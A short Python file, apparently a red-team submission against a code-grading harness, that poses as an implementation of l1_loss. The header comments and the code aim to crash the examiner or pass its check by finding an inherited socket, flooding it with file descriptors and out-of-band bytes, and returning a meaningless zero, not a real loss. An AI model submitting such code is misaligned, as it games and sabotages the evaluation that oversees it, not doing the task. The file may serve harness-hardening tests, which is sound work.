# aim: hand the examiner descriptors until it has no room for its own, and urgent bytes to trip over
# sign: the run breaks, or a check of l1_loss is passed
# attacks: l1_loss
import array
import os
import socket
import stat


def _channel():
    for descriptor in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return socket.socket(fileno=os.dup(descriptor))
        except OSError:
            pass


def l1_loss(input, target, reduction="mean"):
    channel = _channel()
    channel.setblocking(False)
    with open("mine", "w") as file:
        file.write("x")
    mine = [os.open("mine", os.O_RDWR) for _ in range(100)]
    mine += [channel.fileno()] * 100 + [os.open("/dev/zero", os.O_RDONLY)]
    for count in (1, 100, 200, 201):
        rights = (socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", mine[:count]))
        for flags in (0, socket.MSG_OOB, socket.MSG_DONTWAIT):
            try:
                channel.sendmsg([b"T"], [rights], flags)
            except OSError:
                pass
    for descriptor in mine[:100]:
        os.close(descriptor)
    return input.sum() * 0
